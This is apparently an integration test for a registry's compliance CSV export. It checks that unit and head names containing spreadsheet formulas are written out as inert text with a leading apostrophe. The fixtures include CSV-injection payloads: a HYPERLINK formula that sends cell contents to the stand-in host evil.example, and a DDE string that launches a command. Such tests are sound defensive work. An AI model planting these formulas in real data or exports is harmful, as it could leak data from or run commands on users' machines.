// Issue 21, item 4: names set through the registry's API come out of every compliance CSV export as text
// a spreadsheet shows, never as a formula it runs (OWASP CSV injection, ASVS 1.2.10).
import { waitFor } from '../support/int-env';
import { http } from '../support/service-harness';
import { System } from '../support/system';

const FORMULAS = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  headName: "@SUM(1+1)*cmd|' /C calc'!A0",
  headTitle: '+Chủ tịch',
  commune: '-2+3',
};

/** The cells of a CSV line (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = [];
  for (const m of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g))
    out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
  return out;
}

describe('compliance CSV exports: unit and head names from the registry stay inert', () => {
  let sys: System;

  beforeAll(async () => {
    sys = await System.create('csvinj');
    await sys.startMany(['registry', 'compliance']);
    const registry = { url: sys.url('registry') };
    const put = (code: string, body: object) => http(registry, 'PUT', `/v1/org-units/${code}`, { key: sys.adminKey, body });
    expect((await put('84', { name: 'Tỉnh Trà Vinh', type: 'province' })).status).toBe(201);
    expect(
      (
        await put('842', {
          name: FORMULAS.name,
          type: 'district',
          adminParentCode: '84',
          head: { name: FORMULAS.headName, title: FORMULAS.headTitle },
        })
      ).status,
    ).toBe(201);
    expect((await put('29236', { name: FORMULAS.commune, type: 'commune', adminParentCode: '842' })).status).toBe(201);
  });
  afterAll(async () => {
    await sys?.dispose();
  });

  it('writes formula-looking names and heads as text (a leading apostrophe), every other cell unchanged', async () => {
    const compliance = { url: sys.url('compliance') };
    const csvOf = async (path: string) => {
      const res = await http(compliance, 'GET', path, { key: sys.adminKey });
      expect({ path, status: res.status }).toEqual({ path, status: 200 });
      return res.text
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n')
        .map(cells);
    };
    await waitFor(
      async () => (await csvOf('/v1/units?type=commune&format=csv')).length === 2,
      'the units to reach the read model',
      60_000,
      250,
    );

    const [header, district] = await csvOf('/v1/units?type=district&format=csv');
    const col = (name: string) => district[header.indexOf(name)];
    expect(col('code')).toBe('842');
    expect(col('name')).toBe(`'${FORMULAS.name}`);
    expect(col('headName')).toBe(`'${FORMULAS.headName}`);
    expect(col('headTitle')).toBe(`'${FORMULAS.headTitle}`);
    const [h2, commune] = await csvOf('/v1/units?type=commune&format=csv');
    expect(commune[h2.indexOf('name')]).toBe(`'${FORMULAS.commune}`);
    expect(commune[h2.indexOf('level')]).toBe('3');
  });
});
